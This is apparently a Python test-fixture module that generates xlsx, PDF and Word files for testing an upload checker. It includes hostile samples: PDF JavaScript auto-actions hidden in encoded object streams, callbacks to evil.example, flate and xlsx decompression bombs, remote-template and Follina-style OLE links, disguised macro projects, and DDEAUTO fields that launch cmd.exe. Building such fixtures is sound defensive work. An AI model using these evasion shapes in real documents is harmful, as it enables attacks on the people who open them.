"""Hand-written files for the tests of uploads: xlsx workbooks for the readers (worksheet XML,
shared strings and sheet list given as text), and PDF and Word documents for the checks of
agreement documents and templates, hostile ones (in the shapes of the attack of issue 10) and
ordinary ones, so that a test controls every byte a parser sees.
Importable without Django (the sandbox child imports it too)."""

import base64
import binascii
import io
import struct
import zipfile
import zlib

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def xlsx_from_xml(sheets: dict[str, str], shared_strings: list[str] | None = None,
                  hidden: tuple = (), parts: dict[int, tuple[str, str]] | None = None) -> bytes:
    """An xlsx with one worksheet per entry {sheet name: the worksheet's whole XML}. `parts`:
    {sheet number: (the relation's Target, the zip member it is stored as)} where not the usual."""
    names = list(sheets)
    parts = {i: parts.get(i) if parts else None for i in range(1, len(names) + 1)}
    parts = {i: given or (f"worksheets/sheet{i}.xml", f"xl/worksheets/sheet{i}.xml") for i, given in parts.items()}
    workbook = (
        f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}"><sheets>'
        + "".join(f'<sheet name="{name}" sheetId="{i}" state="{"hidden" if name in hidden else "visible"}" '
                  f'r:id="rId{i}"/>' for i, name in enumerate(names, start=1))
        + "</sheets></workbook>"
    )
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(f'<Relationship Id="rId{i}" Type="{RELATIONSHIPS}/worksheet" Target="{parts[i][0]}"/>'
                  for i in range(1, len(names) + 1))
        + (f'<Relationship Id="rIdS" Type="{RELATIONSHIPS}/sharedStrings" Target="sharedStrings.xml"/>'
           if shared_strings is not None else "")
        + "</Relationships>"
    )
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        + "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
                  'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                  for i in range(1, len(names) + 1))
        + ('<Override PartName="/xl/sharedStrings.xml" '
           'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
           if shared_strings is not None else "")
        + "</Types>"
    )
    package_relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", package_relations)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", relations)
        for i, name in enumerate(names, start=1):
            archive.writestr(parts[i][1], sheets[name])
        if shared_strings is not None:
            archive.writestr("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}" count="{len(shared_strings)}">'
                             + "".join(f"<si><t>{text}</t></si>" for text in shared_strings) + "</sst>")
    return out.getvalue()


def worksheet(rows_xml: str) -> str:
    return f'<worksheet xmlns="{MAIN}"><sheetData>{rows_xml}</sheetData></worksheet>'


def dense_sheet(rows: int, columns: int) -> str:
    """`rows` × `columns` cells, each the first shared string, without cell references (the
    parser places them by position): the most cells the unpacked-size limit leaves room for."""
    row = "<row>" + '<c t="s"><v>0</v></c>' * columns + "</row>"
    return worksheet(row * rows)


def repeated_long_string(rows: int, columns: int, length: int, name="Termine") -> bytes:
    """One shared string of `length` characters in rows × columns cells: a parser copies it
    into every cell, so a file of a few hundred KB asks for rows × columns × length bytes."""
    return xlsx_from_xml({name: dense_sheet(rows, columns)}, shared_strings=["x" * length])


# ---------------------------------------------------------------- PDF documents

PAGES = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf_file(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table; object n is objects[n - 1], the catalog first."""
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def pdf_with_catalog(catalog_extra: bytes, *more: bytes, trailer: bytes = b"") -> bytes:
    """Catalog (object 1, with `catalog_extra`), pages (2, 3), then `more` from object 4 on."""
    return pdf_file([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", *PAGES, *more], trailer)


def stream(dictionary: bytes, data: bytes, eol: bytes = b"\n") -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream" % len(data) + eol + data + b"\nendstream"


def pdf_object_stream(filters: bytes, encode, eol: bytes = b"\n", parameters: bytes = b"", prefix: bytes = b"") -> bytes:
    """The catalog, naming a JavaScript action as document script and as /OpenAction, and the
    action itself, both inside object stream 5 (filtered by `filters`, data encoded by
    `encode`; `prefix` before its header), found through a cross-reference stream
    (object 6): the shape of F7."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> /OpenAction 4 0 R >> "
    header = prefix + b"1 0 4 %d " % len(catalog)
    payload = encode(header + catalog + JS_ACTION)
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in ((2, PAGES[0]), (3, PAGES[1])):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[5] = len(out)
    out += (b"5 0 obj\n" + stream(b"/Type /ObjStm /N 2 /First %d /Filter %s %s" % (len(header), filters, parameters),
                                  payload, eol) + b"\nendobj\n")
    offsets[6] = len(out)
    rows = b"".join(struct.pack(">BIH", *row) for row in (
        (0, 0, 65535), (2, 5, 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 5, 1), (1, offsets[5], 0),
        (1, offsets[6], 0)))
    out += (b"6 0 obj\n" + stream(b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R", rows)
            + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6])
    return bytes(out)


def pdf_untyped_object_stream(filter_by_reference: bool) -> bytes:
    """The object stream of F7 without /Type, its /First given by reference (object 8) and its
    filter either by reference (object 7) or with a PNG predictor: found by the verification
    attack, which a reader reads and the check once did not look into."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> /OpenAction 4 0 R >> "
    header = b"1 0 4 %d " % len(catalog)
    data = header + catalog + JS_ACTION
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in ((2, PAGES[0]), (3, PAGES[1])):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if filter_by_reference:
        payload, dictionary = zlib.compress(data), b"/N 2 /First 8 0 R /Filter 7 0 R"
    else:
        payload = zlib.compress(png_up(data, 4))
        dictionary = b"/N 2 /First 8 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>"
    offsets[5] = len(out)
    out += b"5 0 obj\n" + stream(dictionary, payload) + b"\nendobj\n"
    offsets[7] = len(out)
    out += b"7 0 obj\n/FlateDecode\nendobj\n"
    offsets[8] = len(out)
    out += b"8 0 obj\n%d\nendobj\n" % len(header)
    offsets[6] = len(out)
    rows = b"".join(struct.pack(">BIH", *row) for row in (
        (0, 0, 65535), (2, 5, 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 5, 1), (1, offsets[5], 0),
        (1, offsets[6], 0), (1, offsets[7], 0), (1, offsets[8], 0)))
    out += (b"6 0 obj\n" + stream(b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R", rows)
            + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6])
    return bytes(out)


def ascii85(data: bytes) -> bytes:
    return base64.a85encode(data, adobe=True)[2:]


def png_up(data: bytes, columns: int) -> bytes:
    """`data` with the PNG "Up" predictor, `columns` bytes a row."""
    rows = [data[i:i + columns].ljust(columns, b" ") for i in range(0, len(data), columns)]
    previous, out = bytes(columns), bytearray()
    for row in rows:
        out += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, previous, strict=True))
        previous = row
    return bytes(out)


DECOY = b"%endstream\n"  # a comment to the object stream's reader, and the word "endstream"


def flate_hiding_behind_endstream(data: bytes) -> bytes:
    """zlib data of `data` (which starts with DECOY) whose first block is stored, so that the
    word "endstream" stands in the file as it is, and the rest compressed: a check that stops
    at the first "endstream" does not see the rest; a reader reads /Length bytes."""
    decoy, rest = data[:len(DECOY)], data[len(DECOY):]
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    stored = b"\x00" + struct.pack("<HH", len(decoy), len(decoy) ^ 0xFFFF) + decoy  # not the last block
    return b"\x78\x9c" + stored + compressor.compress(rest) + compressor.flush() + struct.pack(">I", zlib.adler32(data))


def pdf_open_action_in_object_stream(target: bytes) -> bytes:
    """/OpenAction 9 0 R, object 9 (`target`) in an object stream, an outline (whose /First
    is a reference, not an object stream's offset) before it."""
    header = b"9 0 "
    return pdf_file([b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R /OpenAction 9 0 R >>", *PAGES,
                     stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header),
                            zlib.compress(header + target)),
                     b"<< /Title (Vereinbarung) /Parent 6 0 R /Dest [3 0 R /Fit] >>",
                     b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>"])


HOSTILE_PDFS = {
    # F7: JavaScript in object streams the old check did not decode.
    "objstm_hex.pdf": lambda: pdf_object_stream(b"/ASCIIHexDecode", lambda d: binascii.hexlify(d) + b">"),
    "objstm_a85_flate.pdf": lambda: pdf_object_stream(b"[/ASCII85Decode /FlateDecode]", lambda d: ascii85(zlib.compress(d))),
    "objstm_flate_cr.pdf": lambda: pdf_object_stream(b"/FlateDecode", zlib.compress, eol=b"\r"),
    "objstm_predictor.pdf": lambda: pdf_object_stream(
        b"/FlateDecode", lambda d: zlib.compress(png_up(d, 16)), parameters=b"/DecodeParms << /Predictor 12 /Columns 16 >>"),
    "objstm_endstream_in_data.pdf": lambda: pdf_object_stream(b"/FlateDecode", flate_hiding_behind_endstream,
                                                              prefix=DECOY),
    "objstm_untyped_filter_by_reference.pdf": lambda: pdf_untyped_object_stream(filter_by_reference=True),
    "objstm_untyped_predictor.pdf": lambda: pdf_untyped_object_stream(filter_by_reference=False),
    # F7: what cannot be decoded is not looked into, so it is refused.
    "objstm_lzw.pdf": lambda: pdf_object_stream(b"/LZWDecode", lambda d: b"\x80" + d),
    "objstm_jpx.pdf": lambda: pdf_object_stream(b"/JPXDecode", lambda d: d),
    "stream_runlength.pdf": lambda: pdf_with_catalog(b"", stream(b"/Filter /RunLengthDecode", b"\x02abc\x80")),
    # F8: automatic actions and links to other files.
    "uri_openaction.pdf": lambda: pdf_with_catalog(b"/OpenAction 4 0 R",
                                                   b"<< /Type /Action /S /URI /URI (https://evil.example/track?id=1) >>"),
    "uri_openaction_inline.pdf": lambda: pdf_with_catalog(b"/OpenAction << /S /URI /URI (https://evil.example/t) >>"),
    "uri_openaction_in_object_stream.pdf": lambda: pdf_open_action_in_object_stream(
        b"<< /S /URI /URI (https://evil.example/t) >>"),
    "page_aa.pdf": lambda: pdf_file([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES[0],
                                     b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>"]),
    "gotor_unc.pdf": lambda: pdf_with_catalog(
        b"/OpenAction 4 0 R", b"<< /Type /Action /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
    "gotoe.pdf": lambda: pdf_with_catalog(b"", b"<< /Type /Annot /Subtype /Link /A << /S /GoToE /F (x.pdf) >> >>"),
    "xfa.pdf": lambda: pdf_with_catalog(b"/AcroForm 4 0 R", b"<< /Fields [] /XFA 5 0 R >>", stream(
        b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
             b"<script>app.alert(1)</script></event></subform></template></xdp:xdp>")),
    "encrypted.pdf": lambda: pdf_with_catalog(b"", b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 "
                                                   b"/O <00> /U <00> >>", trailer=b"/Encrypt 4 0 R /ID [<01> <01>] "),
    "escaped_names.pdf": lambda: pdf_with_catalog(b"/Open#41ction 4 0 R", b"<< /S /J#61v#61Script /J#53 (x) >>"),
    "flate_bomb.pdf": lambda: pdf_with_catalog(b"", stream(b"/Filter /FlateDecode",
                                                           zlib.compress(b"\0" * (60 * 1024 * 1024), 9))),
}


def ordinary_pdf() -> bytes:
    """What a word processor's export holds: an /OpenAction that names the first page (as
    LibreOffice writes it), a link to a web page and one within the document, an outline,
    a JPEG image whose data holds bytes like /JS and /AA, a compressed page with text, and
    macOS's /AAPL:Keywords in the document information."""
    jpeg = b"\xff\xd8\xff\xe0" + b"/JS /AA stream\n" + bytes(range(256)) * 8 + b"\xff\xd9"
    content = zlib.compress(b"BT /F1 12 Tf 20 150 Td (Vereinbarung ABH und Beratung) Tj ET q 50 0 0 50 20 20 cm /Im1 Do Q")
    return pdf_file([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] /Outlines 8 0 R /PageMode /UseOutlines >>",
        PAGES[0],
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [6 0 R 7 0 R] "
        b"/Resources << /XObject << /Im1 5 0 R >> /Font << /F1 10 0 R >> >> >>",
        stream(b"/Filter /FlateDecode", content),
        stream(b"/Type /XObject /Subtype /Image /Width 16 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 "
               b"/Filter /DCTDecode", jpeg),
        b"<< /Type /Annot /Subtype /Link /Rect [20 140 180 160] /A << /S /URI /URI (https://www.kreis.example/kim) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [20 100 180 120] /Dest [3 0 R /Fit] >>",
        b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
        b"<< /Title (Vereinbarung) /Parent 8 0 R /Dest [3 0 R /XYZ 0 200 0] >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Producer (macOS Quartz PDFContext) /AAPL:Keywords [(KIM)] >>",
    ], trailer=b"/Info 11 0 R ")


# ---------------------------------------------------------------- Word documents

WORD_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"


def docx_file(parts: dict[str, bytes] | None = None, document_relations: str = "", overrides: str = "",
              settings_relations: str = "", body: str = "<w:p><w:r><w:t>Vereinbarung</w:t></w:r></w:p>") -> bytes:
    """A minimal Word document: `parts` {zip member: bytes} added, relationships of the main
    document and of its settings (Relationship elements as text), content type overrides."""
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
             'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             f'wordprocessingml.document.main+xml"/>{overrides}</Types>')
    def relations(inner):
        return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELATIONSHIPS}">{inner}</Relationships>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", relations(
            f'<Relationship Id="rId1" Type="{OFFICE_RELATIONSHIPS}/officeDocument" Target="word/document.xml"/>'))
        archive.writestr("word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD_MAIN}" '
                                              f'xmlns:r="{OFFICE_RELATIONSHIPS}"><w:body>{body}</w:body></w:document>')
        if document_relations:
            archive.writestr("word/_rels/document.xml.rels", relations(document_relations))
        if settings_relations:
            archive.writestr("word/settings.xml", f'<w:settings xmlns:w="{WORD_MAIN}" xmlns:r="{OFFICE_RELATIONSHIPS}">'
                                                  '<w:attachedTemplate r:id="rId7"/></w:settings>')
            archive.writestr("word/_rels/settings.xml.rels", relations(settings_relations))
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
HOSTILE_WORD_FILES = {
    # F9: a remote template, an external OLE link (the "Follina" shape), an embedded OLE
    # object, a macro project under another name, an ActiveX control, an external image.
    "remote_template.docx": lambda: docx_file(settings_relations=(
        f'<Relationship Id="rId7" Type="{OFFICE_RELATIONSHIPS}/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/>')),
    "unc_template.docx": lambda: docx_file(settings_relations=(
        f'<Relationship Id="rId7" Type="{OFFICE_RELATIONSHIPS}/attachedTemplate" '
        'Target="file://evil.example/share/t.dotm" TargetMode="&#69;xternal"/>')),
    "external_ole.docx": lambda: docx_file(document_relations=(
        f'<Relationship Id="rId8" Type="{OFFICE_RELATIONSHIPS}/oleObject" '
        'Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>')),
    "external_frame.docx": lambda: docx_file(document_relations=(
        f'<Relationship Id="rId8" Type="{OFFICE_RELATIONSHIPS}/image" Target="\\\\evil.example\\x.png" '
        'TargetMode="External"/>')),
    "embedded_ole.docx": lambda: docx_file({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0OLE-with-exe"}),
    "ole_signature.docx": lambda: docx_file({"word/media/image1.png": OLE}),
    "macro_renamed.docx": lambda: docx_file(
        {"word/macros.dat": b"VBA"},
        document_relations=('<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/'
                            'vbaProject" Target="macros.dat"/>'),
        overrides='<Override PartName="/word/macros.dat" ContentType="application/vnd.ms-office.vbaProject"/>'),
    "macro_content_type.docx": lambda: docx_file(
        {"word/data.bin": b"VBA"}, overrides='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    "activex.docx": lambda: docx_file(
        {"word/activeX/activeX1.xml": b"<ax/>"},
        document_relations=f'<Relationship Id="rId5" Type="{OFFICE_RELATIONSHIPS}/control" Target="activeX/activeX1.xml"/>'),
    "doctype.docx": lambda: _docx_with_doctype(),
    # The verification attack: field codes that fetch content or run a program when the
    # document is opened or its fields updated (one split over two runs, as Word writes them).
    "includepicture.docx": lambda: docx_file(body=_field(' INCLUDEPICTURE "http://evil.example/x.png" \\d ')),
    "includetext_unc.docx": lambda: docx_file(body=_field(' INCLUDE', 'TEXT "\\\\evil.example\\share\\x.docx" ')),
    "ddeauto.docx": lambda: docx_file(body=_field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')),
    "ddeauto_simple.docx": lambda: docx_file(body='<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/></w:p>'),
}


def _field(*instruction_runs: str) -> str:
    """A complex field (begin, instruction runs, end) in a paragraph."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instruction_runs)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _docx_with_doctype() -> bytes:
    """Relationships whose external target mode comes from an entity of a DTD."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_file())) as source, zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.writestr("word/_rels/document.xml.rels", (
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY m "External">]>'
            f'<Relationships xmlns="{PACKAGE_RELATIONSHIPS}"><Relationship Id="rId8" '
            f'Type="{OFFICE_RELATIONSHIPS}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="&m;"/>'
            "</Relationships>"))
    return out.getvalue()


def ordinary_docx() -> bytes:
    """A Word document with a hyperlink in its text (an external relationship, the one kind
    that is fine) and an embedded workbook, as a chart's data is kept."""
    return docx_file(
        {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04 a workbook"},
        document_relations=(f'<Relationship Id="rId4" Type="{OFFICE_RELATIONSHIPS}/hyperlink" '
                            'Target="https://www.kreis.example/kim" TargetMode="External"/>'),
        body=('<w:p><w:r><w:t xml:space="preserve">Siehe </w:t></w:r><w:hyperlink r:id="rId4"><w:r><w:t>'
              "Kreis</w:t></w:r></w:hyperlink></w:p>" + _field(" HYPER", 'LINK "https://www.kreis.example/" ')
              + _field(" PAGE ") + '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>'))
